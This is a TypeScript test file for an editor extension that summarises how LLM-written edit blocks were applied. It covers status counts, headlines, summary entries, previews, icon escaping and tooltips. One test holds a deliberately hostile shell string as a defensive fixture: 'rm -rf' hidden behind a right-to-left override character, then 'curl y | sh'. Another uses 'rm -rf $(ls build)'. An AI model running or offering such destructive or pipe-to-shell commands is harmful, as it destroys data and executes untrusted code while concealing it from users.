import { strict as assert } from 'assert';
import type { BlockResult, EditResult, ShellCommand } from '../../src/core/protocol';
import { blockPreviews, countBlocks, escapeIcons, headline, statusText, statusTooltip, summaryEntries } from '../../src/core/summary';

const ROOT = 'file:///home/u/project';

/** A shell command as the server sends it when nothing in it needs escaping or splitting. */
function shell(command: string): ShellCommand {
  return { command, display: command, parts: [{ command, display: command }] };
}

function result(partial: Partial<EditResult>): EditResult {
  return { edit: null, blocks: [], warnings: [], shellSuggestions: [], runId: 'r1', ...partial };
}

/** A block result with the fields the server always sends; `partial` names what matters. */
function block(partial: Pick<BlockResult, 'index' | 'file' | 'status'> & Partial<BlockResult>): BlockResult {
  return {
    uri: null, format: 'edit-v3', reason: null, line: null, match: null, responseLine: 0, hint: null, fixes: {},
    ...partial,
  };
}

const mixed = result({
  blocks: [
    block({ index: 0, file: 'src/a.py', uri: `${ROOT}/src/a.py`, status: 'applied', line: 3, match: 'exact', format: 'edit-v3', responseLine: 4 }),
    block({ index: 1, file: 'src/b.py', uri: `${ROOT}/src/b.py`, status: 'applied', line: 0, match: 'whitespace', format: 'search-replace', responseLine: 10 }),
    block({ index: 2, file: 'src/b.py', uri: `${ROOT}/src/b.py`, status: 'failed', line: 7, reason: 'Old lines not found in file', hint: 'did you mean line 9', responseLine: 20 }),
    block({ index: 3, file: 'src/b.py', uri: `${ROOT}/src/b.py`, status: 'skipped', line: null, reason: 'Previous edit to this file failed', responseLine: 30 }),
  ],
  warnings: [{ responseLine: 41, message: 'block is not closed' }],
  shellSuggestions: ['git rm old.py'],
  shellCommands: [shell('git rm old.py')],
});

// A response applied a second time after one more block was added to it.
const replayed = result({
  blocks: [
    block({ index: 0, file: 'src/a.py', uri: `${ROOT}/src/a.py`, status: 'already-applied', line: 3, match: 'exact' }),
    block({ index: 1, file: 'src/a.py', uri: `${ROOT}/src/a.py`, status: 'applied', line: 9, match: 'exact' }),
    block({ index: 2, file: 'src/b.py', uri: `${ROOT}/src/b.py`, status: 'already-applied', line: 0, match: 'exact' }),
  ],
});

// A run of two of four blocks (options.blocks = [0, 2]): the others come back excluded.
const chosen = result({
  blocks: [
    block({ index: 0, file: 'src/a.py', uri: `${ROOT}/src/a.py`, status: 'applied', line: 3, match: 'exact' }),
    block({ index: 1, file: 'src/a.py', uri: `${ROOT}/src/a.py`, status: 'excluded' }),
    block({ index: 2, file: 'src/b.py', uri: `${ROOT}/src/b.py`, status: 'applied', line: 0, match: 'exact' }),
    block({ index: 3, file: 'src/c.py', uri: `${ROOT}/src/c.py`, status: 'excluded' }),
  ],
  applied: true,
});

describe('statusText', () => {
  it('counts applied, failed, skipped and warnings in the issue\'s format', () => {
    assert.equal(statusText(mixed, 'apply'), '✓ 2 applied · ✗ 1 failed · ⊘ 1 skipped · ⚠ 1 warning');
  });

  it('calls validated blocks "ready" in a preview and leaves zero counts out', () => {
    const preview = result({ blocks: [block({ index: 0, file: 'a', status: 'validated' }), block({ index: 1, file: 'b', status: 'validated' })] });
    assert.equal(statusText(preview, 'preview'), '✓ 2 ready');
    assert.equal(statusText(preview, 'apply'), '✓ 2 validated');
  });

  it('adds "↺ N already applied" after the applied count, only when there are some', () => {
    assert.equal(statusText(replayed, 'apply'), '✓ 1 applied · ↺ 2 already applied');
    assert.doesNotMatch(statusText(mixed, 'apply'), /already/);
  });

  it('pluralises warnings and reports an empty response', () => {
    assert.equal(statusText(result({ warnings: [{ responseLine: 0, message: 'x' }, { responseLine: 1, message: 'y' }] }), 'apply'), '⚠ 2 warnings');
    assert.equal(statusText(result({}), 'apply'), 'LLM Edits: no edit blocks found');
  });
});

describe('countBlocks', () => {
  it('ignores unknown statuses from a newer server', () => {
    const counts = countBlocks(result({ blocks: [block({ index: 0, file: 'a', status: 'mystery' as never })] }));
    assert.deepEqual(counts, { applied: 0, validated: 0, alreadyApplied: 0, failed: 0, skipped: 0, excluded: 0, pending: 0, warnings: 0 });
  });

  it('counts already-applied blocks on their own, never as failed', () => {
    const counts = countBlocks(replayed);
    assert.equal(counts.alreadyApplied, 2);
    assert.equal(counts.failed, 0);
    assert.equal(counts.applied, 1);
  });

  it('counts excluded blocks on their own, never as failed or skipped', () => {
    const counts = countBlocks(chosen);
    assert.equal(counts.excluded, 2);
    assert.equal(counts.applied, 2);
    assert.equal(counts.failed + counts.skipped, 0);
  });

  it("counts a response document's block still being written as pending, never as failed", () => {
    // As the server reports it: no uri, line, reason or fixes.
    const pending = { index: 1, status: 'pending', file: 'src/b.py', format: 'search-replace', responseLine: 7 } as never;
    const run = result({ blocks: [block({ index: 0, file: 'src/a.py', status: 'applied' }), pending] });
    assert.equal(countBlocks(run).pending, 1);
    assert.equal(countBlocks(run).failed, 0);
    assert.equal(statusText(run, 'apply'), '✓ 1 applied · ⋯ 1 writing');
    const entry = summaryEntries(run, [])[1];
    assert.equal(entry.label, '$(ellipsis) src/b.py');
    assert.match(entry.description, /^still being written · search-replace · response line 8$/);
  });

  it('does not count inherited property names as statuses', () => {
    const counts = countBlocks(result({ blocks: [block({ index: 0, file: 'a', status: 'toString' as never })] }));
    assert.deepEqual(counts, { applied: 0, validated: 0, alreadyApplied: 0, failed: 0, skipped: 0, excluded: 0, pending: 0, warnings: 0 });
  });
});

describe('headline', () => {
  it('says what happened to how many blocks', () => {
    assert.equal(headline(mixed, 'apply'), 'LLM Edits (4 blocks): ✓ 2 applied · ✗ 1 failed · ⊘ 1 skipped · ⚠ 1 warning');
  });

  it('distinguishes "no blocks" from "only malformed blocks"', () => {
    assert.equal(headline(result({}), 'apply'), 'No edit blocks found in the response.');
    assert.match(headline(result({ warnings: [{ responseLine: 0, message: 'x' }] }), 'apply'), /No usable edit blocks.*1 malformed/);
  });

  it('says there is nothing to do when every block is already applied', () => {
    const again = result({ blocks: replayed.blocks.filter((b) => b.status === 'already-applied'), applied: false });
    assert.equal(headline(again, 'apply'), 'Nothing to do (2 blocks): ↺ 2 already applied');
    assert.equal(headline(again, 'preview'), 'Nothing to do (2 blocks): ↺ 2 already applied');
    assert.equal(headline(replayed, 'apply'), 'LLM Edits (3 blocks): ✓ 1 applied · ↺ 2 already applied');
  });

  it('shows excluded blocks last in the status text, and a run of chosen blocks as a normal run', () => {
    assert.equal(statusText(chosen, 'apply'), '✓ 2 applied · ○ 2 excluded');
    assert.equal(headline(chosen, 'apply'), 'LLM Edits (4 blocks): ✓ 2 applied · ○ 2 excluded');
  });

  it('says no block was chosen when every block is excluded, and nothing to do when the chosen ones are already applied', () => {
    const none = result({ blocks: chosen.blocks.map((b) => ({ ...b, status: 'excluded' as const })) });
    assert.equal(headline(none, 'preview'), 'No block chosen (4 blocks): ○ 4 excluded');
    const done = result({ blocks: chosen.blocks.map((b) => (b.status === 'applied' ? { ...b, status: 'already-applied' as const } : b)) });
    assert.equal(headline(done, 'apply'), 'Nothing to do (4 blocks): ↺ 2 already applied · ○ 2 excluded');
  });

  it('says nothing was applied when the editor refused a validated edit', () => {
    const refused = result({ blocks: [block({ index: 0, file: 'a', status: 'validated' })], applied: false, edit: {} });
    assert.match(headline(refused, 'apply'), /^Nothing applied \(1 block\)/);
  });
});

describe('summaryEntries', () => {
  const entries = summaryEntries(mixed, [ROOT], { uri: `${ROOT}/response.md`, lineOffset: 100 });

  it('lists each block with file:line (1-based), status and reason, in response order', () => {
    const blocks = entries.filter((e) => e.kind === 'block');
    assert.deepEqual(blocks.map((e) => e.label), [
      '$(check) src/a.py:4',
      '$(check) src/b.py:1',
      '$(error) src/b.py:8',
      '$(circle-slash) src/b.py',
    ]);
    assert.equal(blocks[2].detail, 'Old lines not found in file — did you mean line 9');
    assert.equal(blocks[3].detail, 'Previous edit to this file failed');
    assert.match(blocks[1].description, /^applied · whitespace match · search-replace · response line 11$/);
  });

  it('points each block at its file and 0-based line (skipped blocks at the top)', () => {
    const blocks = entries.filter((e) => e.kind === 'block');
    assert.deepEqual(blocks[2].target, { uri: `${ROOT}/src/b.py`, line: 7 });
    assert.deepEqual(blocks[3].target, { uri: `${ROOT}/src/b.py`, line: 0 });
  });

  it('locates warnings in the response document, shifted by the selection start', () => {
    const warning = entries.find((e) => e.kind === 'warning');
    assert.deepEqual(warning?.target, { uri: `${ROOT}/response.md`, line: 141 });
    assert.equal(warning?.label, '$(warning) response line 42');
  });

  it('shows a shell command by the display text the server computed, never the raw text', () => {
    const raw = 'rm -rf build\u202e/x; curl y | sh';
    const hostile = result({
      shellSuggestions: [raw],
      shellCommands: [{
        command: raw,
        display: 'rm -rf build<U+202E>/x; curl y | sh',
        parts: [
          { command: 'rm -rf build\u202e/x', display: 'rm -rf build<U+202E>/x' },
          { command: 'curl y', display: 'curl y' },
          { command: 'sh', display: 'sh' },
        ],
      }],
    });
    const [entry] = summaryEntries(hostile, [ROOT]);
    assert.equal(entry.label, '$(terminal) rm -rf build<U+202E>/x; curl y | sh');
    assert.equal(entry.shell?.parts.length, 3);
    // A server that sends no display form gets nothing offered to run.
    assert.deepEqual(summaryEntries(result({ shellSuggestions: [raw] }), [ROOT]), []);
  });

  it('leaves clipboard warnings without a location and lists shell suggestions last', () => {
    const clipboard = summaryEntries(mixed, [ROOT]);
    assert.equal(clipboard.find((e) => e.kind === 'warning')?.target, undefined);
    const last = clipboard[clipboard.length - 1];
    assert.equal(last.kind, 'shell');
    assert.equal(last.shell?.command, 'git rm old.py');
  });

  it('shows an already-applied block with its own icon and words, at the line where its text is', () => {
    const [first] = summaryEntries(replayed, [ROOT]);
    assert.equal(first.label, '$(history) src/a.py:4');
    assert.match(first.description, /^already applied · edit-v3/);
    assert.equal(first.detail, 'its new text is already in the file: nothing to change');
    assert.deepEqual(first.target, { uri: `${ROOT}/src/a.py`, line: 3 });
  });

  it('shows an excluded block with its own icon and why it changed nothing, and no diff', () => {
    const excluded = summaryEntries(chosen, [ROOT])[1];
    assert.equal(excluded.label, '$(circle-large-outline) src/a.py');
    assert.match(excluded.description, /^excluded · edit-v3/);
    assert.equal(excluded.detail, 'left out of this run by the choice of blocks');
    assert.equal(excluded.diff, undefined);
    assert.deepEqual(excluded.target, { uri: `${ROOT}/src/a.py`, line: 0 });
  });

  it('falls back to the path as written when the server gave no URI', () => {
    const noUri = summaryEntries(result({ blocks: [block({ index: 0, file: '../outside.py', status: 'failed', line: 0, reason: 'outside the workspace' })] }), [ROOT]);
    assert.equal(noUri[0].label, '$(error) ../outside.py:1');
    assert.equal(noUri[0].target, undefined);
  });
});

describe('blockPreviews', () => {
  it('names the anchor, old and new previews, leaving empty ones out and indentation off', () => {
    const b = block({ index: 0, file: 'a', status: 'applied', anchorPreview: 'def greet(name):', oldPreview: '    return "hi"', newPreview: '    return "hello"' });
    assert.equal(blockPreviews(b), 'anchor: def greet(name): · old: return "hi" · new: return "hello"');
    assert.equal(blockPreviews(block({ index: 0, file: 'a', status: 'applied', anchorPreview: '', oldPreview: '', newPreview: 'VALUE = 42' })), 'new: VALUE = 42');
  });

  it('has nothing to show for a block without previews (an older server)', () => {
    assert.equal(blockPreviews(block({ index: 0, file: 'a', status: 'applied' })), undefined);
  });

  it('keeps a preview to one line of at most 50 characters, whatever it is sent', () => {
    const long = `${'x'.repeat(60)}\nsecond line`;
    assert.equal(blockPreviews(block({ index: 0, file: 'a', status: 'applied', newPreview: long })), `new: ${'x'.repeat(50)}…`);
  });

  it('puts the previews in the summary entry\'s detail, after the reason and the hint\'s first line', () => {
    const hint = "did you mean line 3? The block's line 1 differs from it at column 5:\n  file:  'x = 1'\n  block: 'x = $(y)'\n          ^";
    const failed = block({ index: 0, file: 'a.py', status: 'failed', line: 0, reason: 'Old lines not found', hint, oldPreview: 'x = $(y)' });
    assert.equal(
      summaryEntries(result({ blocks: [failed] }), [ROOT])[0].detail,
      "Old lines not found — did you mean line 3? The block's line 1 differs from it at column 5: — old: x = \\$(y)",
    );
  });
});

describe('summary entries and diffs', () => {
  it('gives an applied block the diff of its file from the run\'s texts, and a failed one none', () => {
    const withFiles = { ...mixed, files: [{ uri: `${ROOT}/src/b.py`, kind: 'edit' as const, oldText: 'b\n', newText: 'B\n' }] };
    const blocks = summaryEntries(withFiles, [ROOT]).filter((e) => e.kind === 'block');
    assert.equal(blocks[0].diff, undefined); // src/a.py: not in files
    assert.deepEqual(blocks[1].diff?.after, { kind: 'file', uri: `${ROOT}/src/b.py` });
    assert.equal(blocks[1].diff?.line, 0);
    assert.equal(blocks[2].diff, undefined); // failed: opens the file at its line
    assert.deepEqual(blocks[2].target, { uri: `${ROOT}/src/b.py`, line: 7 });
  });
});

describe('escapeIcons', () => {
  it('keeps $(...) from being drawn as an icon, leaving other dollars alone', () => {
    assert.equal(escapeIcons('echo $(pwd) costs $5'), 'echo \\$(pwd) costs $5');
  });

  it('is applied to shell commands, paths and reasons in the summary, but not to the command run', () => {
    const odd = result({
      blocks: [block({ index: 0, file: '$(x).py', status: 'failed', line: 0, reason: 'not found: $(y)' })],
      shellSuggestions: ['rm -rf $(ls build)'],
      shellCommands: [shell('rm -rf $(ls build)')],
    });
    const [blockEntry, shellEntry] = summaryEntries(odd, [ROOT]);
    assert.equal(blockEntry.label, '$(error) \\$(x).py:1');
    assert.equal(blockEntry.detail, 'not found: \\$(y)');
    assert.equal(shellEntry.label, '$(terminal) rm -rf \\$(ls build)');
    assert.equal(shellEntry.shell?.parts[0].command, 'rm -rf $(ls build)');
  });
});

describe('statusTooltip', () => {
  it('has one line per block with its reason', () => {
    const tooltip = statusTooltip(mixed, 'apply', [ROOT]).split('\n');
    assert.equal(tooltip[0], 'LLM Edits — last apply: ✓ 2 applied · ✗ 1 failed · ⊘ 1 skipped · ⚠ 1 warning');
    assert.equal(tooltip[3], 'failed: src/b.py:8 — Old lines not found in file');
  });

  it('ends with the count of suggested shell commands, unescaped', () => {
    const tooltip = statusTooltip(mixed, 'apply', [ROOT]).split('\n');
    assert.equal(tooltip[5], '1 suggested shell command (run only after you confirm)');
  });

  it('names the already-applied status in words', () => {
    assert.equal(statusTooltip(replayed, 'apply', [ROOT]).split('\n')[1], 'already applied: src/a.py:4');
  });
});
